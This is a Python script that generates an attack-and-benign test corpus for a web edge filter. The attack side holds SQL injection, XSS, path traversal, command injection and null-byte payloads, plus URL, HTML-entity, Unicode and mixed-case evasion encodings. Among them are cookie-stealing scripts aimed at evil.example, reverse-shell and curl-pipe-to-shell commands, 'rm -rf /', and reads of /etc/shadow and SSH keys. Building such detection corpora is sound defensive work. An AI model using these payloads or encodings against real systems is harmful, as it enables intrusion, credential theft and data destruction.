#!/usr/bin/env python3
"""Regenerate attacks.jsonl and benign.jsonl: the edge-filter detection corpus.

Attacks are base payloads of five categories, each also in encoded and obfuscated
forms (URL-encoded once and twice, HTML entities, \\u escapes, mixed case, SQL
comments for spaces, full-width brackets). Benign strings are ordinary text that
trips naive filters: apostrophes, SQL words in English, comparisons, ampersands,
markdown, URLs, technical prose, non-Latin scripts.
"""
import json, random, urllib.parse

random.seed(7)

SQLI = [
    "' OR '1'='1", "' OR 1=1--", '" OR ""="', "admin'--", "admin' #", "') OR ('1'='1",
    "1' AND 1=1--", "1 OR 1=1", "1 AND 1=2 UNION SELECT NULL--",
    "' UNION SELECT username, password FROM users--", "1 UNION ALL SELECT NULL,NULL,NULL--",
    "'; DROP TABLE users; --", "1; DELETE FROM accounts", "'; INSERT INTO users VALUES ('x','y')--",
    "1'; EXEC xp_cmdshell('dir')--", "' AND SLEEP(5)--", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)",
    "'; WAITFOR DELAY '0:0:5'--", "' OR pg_sleep(5)--", "1 AND extractvalue(1, concat(0x7e, version()))",
    "' AND 1=CAST((SELECT version()) AS int)--", "' UNION SELECT table_name FROM information_schema.tables--",
    "1 ORDER BY 10--", "' HAVING 1=1--", "'; SHUTDOWN--", "' OR 'x'='x", '" OR 1=1 #', "1' or '1'='1' /*",
    "' OR EXISTS(SELECT 1)--", "1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64",
    "' UNION SELECT @@version--", "1 OR 1=1 LIMIT 1", "admin' OR 1=1 LIMIT 1--", "1); DROP TABLE users--",
    "' || '1'='1", "-1' UNION SELECT load_file('/etc/passwd')--", "' INTO OUTFILE '/tmp/x'--",
    "CHAR(83,69,76,69,67,84)", "1 AND 1=1", "x' AND email IS NULL; --",
]
XSS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert`1`>", "<body onload=alert('x')>",
    '<iframe src="javascript:alert(1)"></iframe>', '<a href="javascript:alert(document.cookie)">click</a>',
    '"><script>alert(1)</script>', "'><img src=x onerror=prompt(1)>", '<div style="width:expression(alert(1))">',
    "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<math><mtext><a href=javascript:alert(1)>x", '<object data="data:text/html;base64,PHNjcmlwdD4=">',
    "<embed src=javascript:alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "javascript:alert(1)", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    "<form action=javascript:alert(1)><input type=submit>", "<button formaction=javascript:alert(1)>x</button>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', "<link rel=import href=data:text/html,x>",
    "<img src=1 onerror=eval(atob('YWxlcnQoMSk='))>",
    "<script>document.location='http://evil.example/?c='+document.cookie</script>",
    "<svg><animate onbegin=alert(1) attributeName=x>", "<style>@import 'javascript:alert(1)';</style>",
    "<base href=javascript:alert(1)//>", "<textarea autofocus onfocus=alert(1)>", "<a onmouseover=alert(1)>hover</a>",
    "<isindex action=javascript:alert(1) type=image>", '<body background="javascript:alert(1)">',
    "<img src=\"x\" onerror=\"window.location='http://evil.example'\">", "<script>fetch('//evil.example/'+document.cookie)</script>",
]
TRAVERSAL = [
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "/etc/passwd", "/etc/shadow",
    "/var/www/../../etc/hosts", "file:///etc/passwd", "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "../../../../../../proc/self/environ", "..;/..;/admin", "/../../../var/log/auth.log", "../.ssh/id_rsa",
    "../../.env", "..\\..\\boot.ini", "/proc/self/cmdline", "../../../../../../../../../../etc/issue",
    "../.git/config", "static/../../../app/config.yml", "..", "/root/.bash_history", "images/../../../../etc/group",
]
CMD = [
    "; cat /etc/passwd", "| id", "&& whoami", "|| uname -a", "`id`", "$(whoami)", "; ls -la /",
    "& ping -c 10 127.0.0.1", "; sleep 10", "| nc -e /bin/sh 10.0.0.1 4444", "; curl http://evil.example/x.sh | sh",
    "; wget http://evil.example/x -O /tmp/x", "$(curl evil.example)", ";${IFS}cat${IFS}/etc/passwd",
    "| bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "; rm -rf /", "\n/bin/bash -c 'id'", "; echo pwned > /tmp/x",
    "| powershell -enc AAAA", "; python -c 'import os'", "&& cat ~/.ssh/id_rsa", "; chmod 777 /tmp/x",
    "`sleep 5`", "$(sleep 5)", "| xxd /etc/passwd", "; /usr/bin/id", "\nid", "|| ping -n 5 127.0.0.1",
    "127.0.0.1; uname -a", "file.txt; cat secret.txt", "x && curl -d @/etc/passwd evil.example",
]
NULL = [
    "file.txt%00.jpg", "../../etc/passwd%00", "admin\\u0000", "%00", "name\\x00", "%2500", "image.php%00.png",
    "user%00admin", "a\\u0000b",
]

def url_all(s):
    return "".join(c if c.isalnum() else "%%%02X" % ord(c) for c in s) if s.isascii() else urllib.parse.quote(s, safe="")

def url_twice(s):
    return url_all(s).replace("%", "%25")

def html_entities(s):
    return "".join("&#x%x;" % ord(c) if c in "<>'\"()=;&/\\|` " else c for c in s)

def unicode_escapes(s):
    return "".join("\\u%04x" % ord(c) if c in "<>'\"()=;&/\\|` " else c for c in s)

def mixed_case(s):
    return "".join(c.upper() if random.random() < 0.5 else c.lower() for c in s)

def sql_comments(s):
    return s.replace(" ", "/**/")

def fullwidth(s):
    return s.replace("<", "\uff1c").replace(">", "\uff1e")

ENCODERS = {
    "sql_injection": [lambda s: s, url_all, url_twice, html_entities, mixed_case, sql_comments],
    "xss": [lambda s: s, url_all, url_twice, html_entities, unicode_escapes, mixed_case, fullwidth],
    "path_traversal": [lambda s: s, url_all, url_twice, mixed_case],
    "command_injection": [lambda s: s, url_all, url_twice, unicode_escapes],
    "null_byte": [lambda s: s, url_all, url_twice],
}

attacks = []
for category, bases in [("sql_injection", SQLI), ("xss", XSS), ("path_traversal", TRAVERSAL),
                        ("command_injection", CMD), ("null_byte", NULL)]:
    seen = set()
    for base in bases:
        for encode in ENCODERS[category]:
            payload = encode(base)
            if payload not in seen:
                seen.add(payload)
                attacks.append({"category": category, "payload": payload})

NAMES = ["O'Brien", "D'Angelo", "O'Connor", "D'Souza", "L'Oréal", "Mc'Kenzie", "N'Golo Kanté", "Dell'Acqua",
         "Sant'Anna", "O'Neil", "D'Arcy", "Ma'ayan", "Te'o", "Ng'ang'a", "Bob's Burgers", "Zoë O'Hara"]
benign = []
for name in NAMES:
    benign += [name, f"{name}'s café", f"Ask {name} about the 'or' clause", f"Ms. {name} -- our new lead"]
SQL_WORDS = [
    "SELECT a plan that suits you", "Please select one option from the list below.", "Union members meet on Friday.",
    "We will drop the old logo and update the website.", "Delete your account from the settings page.",
    "Insert the card, then select your language.", "Update: the meeting moved to 3pm.", "The union of two sets is a set.",
    "Drop me a line when you land.", "Create a table of contents for the report.", "Order by phone or online.",
    "Group by group, the students left the hall.", "Where and when? Select a date.", "I'll join you for lunch.",
    "Truncate the story to fit one page.", "Alter the hem by two inches.", "Execute the plan as agreed.",
    "Having fun and learning a lot.", "Sleep well and see you tomorrow.", "Between you and me, it's fine.",
    "From the start, we knew.", "Null and void, said the lawyer.", "Exec summary attached.",
    "Select all that apply: red, green, blue.", "Union Station is two blocks away.", "To be or not to be.",
    "This or that, 1 or 2, either is fine.", "Pick A or B and then click next.", "Shall we drop by later?",
    "Tables: 4 chairs and 1 table.", "Is it true or false that cats sleep a lot?", "A declare-your-interest form",
    "The update rolled out to 10% of users.", "Set the table for six.", "Grant writing workshop on Tuesday.",
    "She said 'hello' and left.", "The word \"select\" is a verb.", "Please don't delete the shared drive.",
    "Johnson & Johnson's select products", "He chose 'union' over 'join' in the essay.",
]
benign += SQL_WORDS
MATH = ["1 < 2", "2 > 1", "a <= b", "x >= 10", "3 < 4 and 5 > 2", "if a < b then swap", "5 - 3 = 2", "x = y + 1",
        "price < $20", "temperature > 30 °C", "0 < x < 1", "i = 1; i < n; i++", "10 % 3 = 1", "a != b",
        "1/2 + 1/4 = 3/4", "≤ 5 kg", "2^10 = 1024", "A > B > C", "(a + b) * c", "sum(x) / n", "-1 is less than 0",
        "50% off", "100 % sure", "e = mc^2", "x < y > z", "ratio 3:2", "#1 in sales", "C# and F#", "score: 9/10",
        "20-30 people", "3 > 2; 2 > 1", "n = 0; n < 10"]
benign += MATH
AMP = ["rock & roll", "Tom & Jerry", "salt & pepper", "R&D department", "AT&T", "Q&A session", "fish & chips",
       "Johnson & Johnson", "black & white", "cats & dogs", "you & me", "bread & butter", "research & development",
       "Marks & Spencer", "H&M", "search & find the best deals", "head & shoulders", "gross & net income",
       "copy & type", "sun & sleep", "peace & love", "this & that", "P&L statement", "B&B in the hills",
       "terms & conditions", "rhythm & blues", "cut & paste", "Ben & Jerry's", "M&Ms", "law & order"]
benign += AMP
MARKDOWN = ["# Heading", "## Release notes", "- item one\n- item two", "1. first\n2. second", "**bold** and _italic_",
            "`inline code`", "> a quote", "[link](https://example.com/docs)", "![alt](https://example.com/a.png)",
            "| name | age |\n|---|---|\n| Ann | 31 |", "---", "~~strikethrough~~", "```\nplain text block\n```",
            "Use the `select` field to choose", "* star list", "Line one  \nLine two", "<https://example.com>",
            "Footnote[^1]", "[^1]: The note.", "- [ ] task\n- [x] done", "**Note:** read the `README` first",
            "Set `limit` to 20", "## FAQ\nQ: Why? A: Because.", "_emphasis_ & **strong**", "1. Open the app\n2. Tap *Settings*",
            "Call `update` after `load`", "See section 3 > subsection 2", "> Quote with 'single' quotes",
            "Heading with #hashtag", "<br> is a line break tag name", "The <b> tag makes text bold",
            "Prices: <$10, $10-20, >$20", "Use <kbd>Ctrl</kbd>+<kbd>C</kbd>", "a <em>very</em> good idea",
            "x <y and y> z", "Write `a < b` in code", "The `<p>` element", "Emoji :smile: :rocket:"]
benign += MARKDOWN
URLS = ["https://example.com", "https://example.com/path/to/page?x=1&y=2", "http://localhost:8080/api/resources",
        "https://www.wikipedia.org/wiki/Union_(set_theory)", "https://example.com/search?q=select+a+plan",
        "mailto:ann@example.com", "https://example.com/a#section-2", "ftp://files.example.com/pub/readme.txt",
        "https://example.com/?utm_source=news&utm_medium=email", "https://user@example.com:8443/x",
        "www.example.org", "example.com/about-us", "https://example.com/files/report%202024.pdf",
        "https://maps.example.com/@51.5,-0.12,12z", "https://example.com/cat/dogs/id/42",
        "https://cdn.example.com/js/app.min.js", "https://example.com/or/and/select", "tel:+1-555-0100",
        "https://example.com/~user/home", "https://例え.jp/パス", "https://example.com/script-writing-tips",
        "https://example.com/drop-shipping", "https://api.example.com/v1/items?limit=20&cursor=abc",
        "https://example.com/a/b/c/d/e.html", "https://example.com/index.php?page=about", "data-science.example.com"]
benign += URLS
PROSE = ["The service retries failed requests with exponential backoff.", "Cache entries expire after thirty seconds.",
         "Each request carries an identifier for tracing.", "The script for the play was rewritten twice.",
         "Our team ships small changes often.", "Tokens expire after fifteen minutes.", "Alerts fire when latency exceeds 5 ms.",
         "The prompt on screen asks for your name.", "Please confirm your email address.", "Evaluation results are in the appendix.",
         "A window opens when you click the icon.", "The document describes the cookie policy.", "Locations are listed by city.",
         "Import the CSV file into the spreadsheet.", "The expression on her face said it all.", "Behavior change takes time.",
         "Set the environment variable before starting.", "Type your password twice.", "Find the nearest station.",
         "The head of the team will review it.", "Sleep is important for memory.", "Touch the screen to wake it.",
         "Ping me when you are ready.", "Echo chambers distort opinions.", "Cat videos are popular.",
         "Kill the lights when you leave.", "Dig deeper into the data.", "The net result was positive.",
         "Path names are case-sensitive on Linux.", "Use two dots to go up one level in a file browser.",
         "The body of the email was empty.", "Frames per second dropped to 30.", "Objects in the mirror are closer.",
         "Embed the video on your blog.", "Meta data helps search.", "The base rate is 2%.", "Link your account.",
         "Style guides keep writing consistent.", "Input validation prevents errors.", "The form has three fields.",
         "Details are in the attached file.", "The marquee lights flickered.", "Audio and video are in sync.",
         "Select, copy, and paste the text.", "This is an example of on-call rotation.", "Online and offline modes",
         "The onset of winter", "Onboarding takes a week.", "Click 'Submit' when done.", "He said: \"That's it.\"",
         "It's 5 o'clock somewhere.", "We're open 9-5, Mon-Fri.", "Isn't it great?", "Y'all come back now.",
         "The 90's were fun.", "Rock 'n' roll forever", "Item #42 is sold out.", "Use hash #tags wisely.",
         "50/50 chance", "and/or", "either/or", "w/o sugar", "24/7 support", "A/B testing results",
         "version 2.0.1", "Python 3.12 and Rust 1.95", "Backslash \\ is an escape character.", "C:\\Users\\Ann\\Documents",
         "The ratio is 2:1.", "Time: 10:30", "Key=value pairs", "a=1, b=2", "name = 'Ann'", "Is x = 1?",
         "Semicolons; they join clauses.", "Wait; what happened?", "Yes; no; maybe.", "Note: see below.",
         "Dollar $5 and $(price) in a template", "It costs $10 (plus tax).", "Pipes | separate columns", "This | that",
         "Use the -v flag for verbose output.", "The --help option lists flags.", "Dash - and en dash –",
         "Comment /* here */ in CSS", "Email me @ home", "@channel please review", "Hello @ann!",
         "Tildes ~ are fun", "Carets ^ point up", "Percent % sign", "Plus + sign", "Brackets [like this]",
         "Braces {like this}", "Parentheses (like this)", "Quotes 'like' \"this\"", "Backticks `like this`"]
benign += PROSE
NON_LATIN = ["こんにちは世界", "你好，世界", "안녕하세요", "Привет, мир", "Γειά σου Κόσμε", "مرحبا بالعالم", "שלום עולם",
             "नमस्ते दुनिया", "สวัสดีชาวโลก", "Xin chào thế giới", "Merhaba dünya", "Cześć świecie", "Ahoj světe",
             "Hej världen", "Hallå där", "Olá, mundo", "¡Hola, mundo!", "Grüß Gott", "Ça va très bien", "Façade",
             "naïve café", "São Paulo", "Zürich", "Kraków", "Ærø", "Ísland", "Łódź", "Mëtzeler", "Þórsmörk",
             "東京タワー", "北京市", "서울특별시", "Москва", "Αθήνα", "القاهرة", "ירושלים", "मुंबई", "กรุงเทพ",
             "ОБНОВИТЬ таблицу", "选择一个计划", "テーブルを削除しないで", "‘curly’ “quotes”", "emoji 🚀🎉", "math ∑ ∫ √ ≠ ≈",
             "½ cup sugar", "№ 5", "™ and ©", "ｆｕｌｌｗｉｄｔｈ ｔｅｘｔ", "ＡＢＣ１２３", "Ｈｅｌｌｏ"]
benign += NON_LATIN
benign = list(dict.fromkeys(benign))

with open("attacks.jsonl", "w") as f:
    for a in attacks:
        f.write(json.dumps(a, ensure_ascii=False) + "\n")
with open("benign.jsonl", "w") as f:
    for b in benign:
        f.write(json.dumps(b, ensure_ascii=False) + "\n")
print(len(attacks), "attacks,", len(benign), "benign")
from collections import Counter
print(Counter(a["category"] for a in attacks))
